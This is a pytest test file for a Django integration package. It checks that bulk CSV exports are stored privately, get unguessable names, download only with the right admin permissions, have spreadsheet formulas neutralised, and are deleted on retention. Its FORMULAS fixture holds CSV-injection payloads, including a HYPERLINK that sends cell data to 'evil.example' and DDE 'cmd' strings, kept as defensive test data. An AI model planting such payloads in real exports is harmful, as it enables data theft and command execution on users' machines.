"""Bulk CSV files: private storage, unguessable names, the admin download, retention."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import os
import re
import subprocess
import sys
import time
from pathlib import Path

import pytest
from django.conf import settings
from django.contrib.auth.models import Permission, User
from django.core.files.base import ContentFile
from django.core.management import call_command
from django.db import connection, transaction
from django.test import Client, override_settings
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from django_satori import bulk, bulk_files, tasks
from django_satori.beat import BEAT_SCHEDULE
from django_satori.checks import check_settings
from django_satori.models import BulkJob, BulkPart, BulkState, Customer, SyncLog

pytestmark = pytest.mark.django_db(transaction=True)

FAST = {"BULK_POLL_INTERVAL_SECONDS": 0.05, "BULK_POLL_MAX_INTERVAL_SECONDS": 0.2}
REPO_ROOT = Path(__file__).resolve().parent.parent

#: Values a spreadsheet would run as formulas, in the fields a customer fills in.
FORMULAS = {
    "last_name": '=HYPERLINK("http://evil.example/?"&A1,"詳細")',
    "first_name": "+cmd|' /C calc'!A0",
    "lead_company_name": "@SUM(1+1)*cmd|' /C calc'!A0",
    "department": "-2+3+cmd|' /C calc'!A0",
    "address": "\t=1+1",
    "memo": "\r=1+1",
    "phone_number": "０３＝１２３４",  # only starting with a formula sign is neutralised
}


@pytest.fixture(autouse=True)
def _fast_polls():
    with override_settings(SATORI={**settings.SATORI, **FAST}):
        yield


def satori(**changes):
    return override_settings(SATORI={**settings.SATORI, **FAST, **changes})


def user_with(*codenames: str, username: str) -> User:
    user = User.objects.create_user(username, password="pw", is_staff=True)
    for codename in codenames:
        user.user_permissions.add(
            Permission.objects.get(codename=codename, content_type__app_label="django_satori")
        )
    return user


def client_for(user: User | None) -> Client:
    client = Client()
    if user is not None:
        client.force_login(user)
    return client


def dry_run_job(*emails: str, **fields) -> BulkJob:
    """A finished job with one written part, without SATORI (a dry run uploads nothing)."""
    for email in emails:
        Customer.objects.create(email=email, collection_route="web", **fields)
    with transaction.atomic():
        job = bulk.start_bulk_job(
            Customer.objects.filter(email__in=emails), mode="upsert", dry_run=True
        )
    return bulk.run_job(job.pk)


def running_job(*emails: str) -> BulkJob:
    """A job whose part is written and waits for its upload (no worker picks it up)."""
    for email in emails:
        Customer.objects.create(email=email, collection_route="web")
    with transaction.atomic():
        job = bulk.start_bulk_job(Customer.objects.filter(email__in=emails), mode="upsert")
    return bulk.run_job(job.pk, on_part_ready=lambda part_id: None)


def ended_days_ago(job: BulkJob, days: float) -> None:
    BulkJob.objects.filter(pk=job.pk).update(finished_at=timezone.now() - dt.timedelta(days=days))


def file_name(job: BulkJob) -> str:
    return str(BulkPart.objects.get(job=job).csv_file.name)


# --------------------------------------------------------------------------- storage


def test_files_are_written_to_a_private_directory_outside_media_with_no_url():
    job = dry_run_job("a@example.jp")
    storage = bulk.bulk_storage()
    path = os.path.realpath(storage.path(file_name(job)))
    assert os.path.isfile(path)
    assert path.startswith(os.path.realpath(settings.SATORI["BULK_FILES_DIR"]) + os.sep)
    assert not path.startswith(os.path.realpath(settings.MEDIA_ROOT) + os.sep)
    assert storage.base_url is None
    with pytest.raises(ValueError):
        storage.url(file_name(job))
    # Neither the web process's group nor anyone else may write; others may not read.
    assert os.stat(path).st_mode & 0o777 == 0o640


def test_without_a_directory_set_the_files_go_next_to_media_root_never_inside(tmp_path):
    satori_conf = {k: v for k, v in settings.SATORI.items() if k != "BULK_FILES_DIR"}
    with override_settings(SATORI=satori_conf, MEDIA_ROOT=str(tmp_path / "media")):
        assert bulk_files.private_dir() == str(tmp_path / "django_satori_private")
        assert [m.id for m in check_settings() if m.id.startswith("django_satori.W003")] == []
    # A fresh startproject has no MEDIA_ROOT, but a BASE_DIR.
    with override_settings(SATORI=satori_conf, MEDIA_ROOT="", BASE_DIR=tmp_path / "site"):
        assert bulk_files.private_dir() == str(tmp_path / "site" / "django_satori_private")
        assert check_settings() == []
    with override_settings(SATORI=satori_conf, MEDIA_ROOT="", BASE_DIR=None):
        assert [m.id for m in check_settings()] == ["django_satori.E007"]
    # A Path is fine where a str is (BASE_DIR / "private" is the usual way to write it).
    with satori(BULK_FILES_DIR=tmp_path / "as-path"):
        assert bulk_files.private_dir() == str(tmp_path / "as-path")
        assert check_settings() == []


def test_names_are_unguessable_and_differ_for_the_same_job_and_part(tmp_path):
    job = dry_run_job("a@example.jp")
    name = file_name(job)
    assert not re.fullmatch(r"django_satori/bulk/job-\d+-part-\d+\.csv", name)
    match = re.fullmatch(rf"django_satori/bulk/job-{job.pk}-part-1-([A-Za-z0-9_-]+)\.csv", name)
    assert match, name
    assert len(match.group(1)) >= 24  # 18 random bytes, 144 bits
    tokens = {bulk_files.new_part_name(job.pk, 1) for _ in range(50)}
    assert len(tokens) == 50


def test_a_public_storage_is_warned_about(tmp_path):
    with satori(BULK_STORAGE="default"):
        found = [m for m in check_settings() if m.id == "django_satori.W003"]
    assert found and "MEDIA_ROOT" in found[0].msg
    with satori(BULK_FILES_DIR=str(Path(settings.MEDIA_ROOT) / "satori")):
        assert [m.id for m in check_settings() if m.id == "django_satori.W003"]
    with satori(BULK_STORAGE="nowhere"):
        assert [m.id for m in check_settings()] == ["django_satori.E007"]
    assert not [m for m in check_settings() if m.id in ("django_satori.W003", "django_satori.E007")]


def test_a_storage_alias_from_storages_is_used_as_configured(tmp_path):
    storages_setting = {
        **getattr(settings, "STORAGES", {}),
        "private_bucket": {
            "BACKEND": "django.core.files.storage.FileSystemStorage",
            "OPTIONS": {"location": str(tmp_path / "bucket"), "base_url": "/private-x/"},
        },
    }
    with override_settings(STORAGES=storages_setting), satori(BULK_STORAGE="private_bucket"):
        job = dry_run_job("a@example.jp")
        assert (tmp_path / "bucket" / file_name(job)).is_file()
        assert not [m for m in check_settings() if m.id == "django_satori.W003"]


# --------------------------------------------------------------------------- download


def test_nobody_without_both_permissions_gets_a_file_and_an_anonymous_request_gets_nothing():
    job = dry_run_job("secret-person@example.jp", last_name="秘密")
    part = BulkPart.objects.get(job=job)
    url = reverse("admin:django_satori_bulkpart_csv", args=[part.pk])

    anonymous = Client().get(url)
    assert anonymous.status_code == 302 and "/login/" in anonymous["Location"]
    assert b"secret-person" not in anonymous.content
    # Nothing is under MEDIA_URL (where projects serve MEDIA_ROOT) either.
    assert Client().get(settings.MEDIA_URL + file_name(job)).status_code == 404

    for codenames, username in (
        ((), "nobody"),
        (("view_bulkjob",), "viewer"),
        (("bulk_customer",), "runner"),
    ):
        response = client_for(user_with(*codenames, username=username)).get(url)
        assert response.status_code == 403, username

    allowed = client_for(user_with("view_bulkjob", "bulk_customer", username="bulker"))
    response = allowed.get(url)
    assert response.status_code == 200
    body = b"".join(response.streaming_content)
    assert b"secret-person@example.jp" in body and "秘密".encode() in body


def test_the_download_neutralises_formulas_and_satori_gets_the_values_unchanged(satori_sandbox):
    Customer.objects.create(email="formula@example.jp", collection_route="web", **FORMULAS)
    Customer.objects.create(email="plain@example.jp", collection_route="web", last_name="山田")
    with transaction.atomic():
        job = bulk.start_bulk_job(Customer.objects.all(), mode="upsert")
    job = bulk.drive_job(job.pk, timeout=30)
    assert job.state == BulkState.FINISHED, job.error
    part = BulkPart.objects.get(job=job)

    # What SATORI got, and the stored file, keep every value as it is.
    remote = satori_sandbox.state.customer("formula@example.jp")
    for field, value in FORMULAS.items():
        assert remote.fields[field] == value, field
    with bulk.bulk_storage().open(part.csv_file.name, "rb") as fileobj:
        stored = fileobj.read()
    stored_rows = {r["email"]: r for r in csv.DictReader(io.StringIO(stored.decode(), newline=""))}
    for field, value in FORMULAS.items():
        assert stored_rows["formula@example.jp"][field] == value, field

    user = user_with("view_bulkjob", "bulk_customer", username="bulker")
    response = client_for(user).get(reverse("admin:django_satori_bulkpart_csv", args=[part.pk]))
    assert response.status_code == 200
    assert response["Content-Disposition"] == (
        f'attachment; filename="satori-bulk-{job.pk}-{part.number}.csv"'
    )
    assert {"private", "no-store"} <= set(response["Cache-Control"].split(", "))
    body = b"".join(response.streaming_content)
    assert body.startswith(b"\xef\xbb\xbf")
    rows = {r["email"]: r for r in csv.DictReader(io.StringIO(body[3:].decode(), newline=""))}
    formula = rows["formula@example.jp"]
    for field, value in FORMULAS.items():
        expected = value if field == "phone_number" else "'" + value
        assert formula[field] == expected, field
    assert rows["plain@example.jp"]["last_name"] == "山田"
    for row in rows.values():
        for cell in row.values():
            assert not cell.startswith(bulk_files.FORMULA_PREFIXES), cell


def test_the_job_page_links_the_download_and_explains_a_deleted_file(client):
    job = dry_run_job("a@example.jp")
    part = BulkPart.objects.get(job=job)
    User.objects.create_superuser("root", password="pw")
    client.login(username="root", password="pw")
    page = client.get(reverse("admin:django_satori_bulkjob_change", args=[job.pk]))
    url = reverse("admin:django_satori_bulkpart_csv", args=[part.pk])
    assert url in page.content.decode()
    bulk_files.delete_expired(0)
    assert client.get(url).status_code == 404
    page = client.get(reverse("admin:django_satori_bulkjob_change", args=[job.pk]))
    assert url not in page.content.decode()


def test_a_long_file_streams_in_chunks():
    rows = 3000
    content = "email,memo\n" + "".join(f"u{i}@example.jp,{'x' * 60}\n" for i in range(rows))
    name = bulk.bulk_storage().save("django_satori/bulk/long.csv", ContentFile(content.encode()))
    try:
        chunks = list(bulk_files.people_csv(name))
    finally:
        bulk.bulk_storage().delete(name)
    assert len(chunks) > 3
    assert b"".join(chunks).count(b"\r\n") == rows + 1


# --------------------------------------------------------------------------- retention


def test_retention_deletes_old_files_and_keeps_running_and_recent_ones(tmp_path):
    with satori(BULK_FILES_DIR=str(tmp_path), BULK_FILE_RETENTION_DAYS=7):
        old = dry_run_job("old@example.jp")
        recent = dry_run_job("recent@example.jp")
        running = running_job("running@example.jp")
        cancelled = running_job("cancelled@example.jp")
        ended_days_ago(old, 8)
        ended_days_ago(recent, 6)
        # Started long ago and still running: never touched.
        BulkJob.objects.filter(pk=running.pk).update(
            created_at=timezone.now() - dt.timedelta(days=30),
            started_at=timezone.now() - dt.timedelta(days=30),
        )
        # Cancelled while its part was at SATORI: ended, but its part still runs.
        BulkJob.objects.filter(pk=cancelled.pk).update(state=BulkState.CANCELLED)
        BulkPart.objects.filter(job=cancelled).update(state=BulkState.PROCESSING)
        names = {job.pk: file_name(job) for job in (old, recent, running, cancelled)}
        storage = bulk.bulk_storage()
        stray_old = storage.save("django_satori/bulk/stray-old.csv", ContentFile(b"email\n"))
        stray_new = storage.save("django_satori/bulk/stray-new.csv", ContentFile(b"email\n"))
        long_ago = time.time() - 10 * 86400
        os.utime(storage.path(stray_old), (long_ago, long_ago))

        out = io.StringIO()
        call_command("satori_cleanup", "--files", "--dry-run", stdout=out)
        assert "the files of 1 bulk parts, 1 files" in out.getvalue()
        assert all(storage.exists(name) for name in names.values())

        call_command("satori_cleanup", "--files", stdout=out)
        assert not storage.exists(names[old.pk])
        assert BulkPart.objects.get(job=old).csv_file.name == ""
        for job in (recent, running, cancelled):
            assert storage.exists(names[job.pk])
            assert BulkPart.objects.get(job=job).csv_file.name == names[job.pk]
        assert not storage.exists(stray_old) and storage.exists(stray_new)

        # The cancelled job's part finishes: the job ends, and its file goes once old.
        BulkPart.objects.filter(job=cancelled).update(state=BulkState.FINISHED)
        ended_days_ago(cancelled, 8)
        assert tasks.cleanup.apply().get() == {"log_entries": 0, "bulk_files": 1, "orphan_files": 0}
        assert not storage.exists(names[cancelled.pk])
        assert storage.exists(names[running.pk])


def test_retention_none_keeps_files_and_the_beat_runs_the_cleanup(tmp_path):
    with satori(BULK_FILES_DIR=str(tmp_path), BULK_FILE_RETENTION_DAYS=None):
        job = dry_run_job("a@example.jp")
        ended_days_ago(job, 1000)
        assert bulk_files.delete_expired() == bulk_files.FileCleanup(0, 0)
        assert bulk.bulk_storage().exists(file_name(job))
    assert {"task": "django_satori.tasks.cleanup", "schedule": 3600.0} in BEAT_SCHEDULE.values()


def test_old_log_entries_are_deleted_in_batches_and_recent_ones_kept():
    now = timezone.now()
    SyncLog.objects.bulk_create(
        [
            SyncLog(endpoint="x", outcome="ok", created_at=now - dt.timedelta(days=91))
            for _ in range(5)
        ]
        + [SyncLog(endpoint="recent", outcome="ok", created_at=now - dt.timedelta(days=89))]
    )
    out = io.StringIO()
    call_command("satori_cleanup", "--logs", "--dry-run", stdout=out)
    assert "Would delete: 5 sync log entries" in out.getvalue()
    assert SyncLog.objects.count() == 6

    with CaptureQueriesContext(connection) as queries:
        call_command("satori_cleanup", "--logs", "--batch-size", "2", stdout=out)
    assert list(SyncLog.objects.values_list("endpoint", flat=True)) == ["recent"]
    deletes = [q["sql"] for q in queries if q["sql"].startswith("DELETE")]
    assert len(deletes) == 3  # 2 + 2 + 1 rows: no statement takes them all

    with satori(LOG_RETENTION_DAYS=None):
        assert tasks.cleanup.apply().get()["log_entries"] == 0
    with satori(LOG_RETENTION_DAYS=30):
        assert tasks.cleanup.apply().get()["log_entries"] == 1
    assert not SyncLog.objects.exists()


def test_cleanup_options_must_be_positive():
    from django.core.management import CommandError

    with pytest.raises(CommandError) as excinfo:
        call_command("satori_cleanup", "--log-days", "0")
    assert excinfo.value.returncode == 2


# --------------------------------------------------------------------------- example project


def test_the_example_project_serves_no_bulk_file(tmp_path):
    env = {
        name: value
        for name, value in os.environ.items()
        if not name.startswith(("SATORI_", "CELERY_", "DJANGO_", "DEMO_"))
    }
    env.update(
        EXAMPLE_VAR_DIR=str(tmp_path / "var"),
        DATABASE_URL=f"sqlite:///{tmp_path / 'db.sqlite3'}",
        DEBUG="1",
    )
    script = (
        "import json\n"
        "from django.conf import settings\n"
        "from django.urls import Resolver404, resolve\n"
        "from django_satori import bulk\n"
        "from django_satori.checks import check_settings\n"
        "try:\n"
        "    resolve('/media/django_satori/bulk/job-1-part-1.csv')\n"
        "    served = True\n"
        "except Resolver404:\n"
        "    served = False\n"
        "print(json.dumps({'served': served, 'debug': settings.DEBUG,\n"
        "    'location': bulk.bulk_storage().location,\n"
        "    'checks': [m.id for m in check_settings()]}))\n"
    )
    result = subprocess.run(
        [sys.executable, str(REPO_ROOT / "example_project" / "manage.py"), "shell", "-c", script],
        cwd=REPO_ROOT,
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert result.returncode == 0, result.stderr
    report = json.loads(result.stdout.strip().splitlines()[-1])
    assert report["debug"] is True  # even in development, where static() would serve media
    assert report["served"] is False
    assert report["location"] == str(tmp_path / "var" / "private" / "satori-bulk")
    assert "django_satori.W003" not in report["checks"]
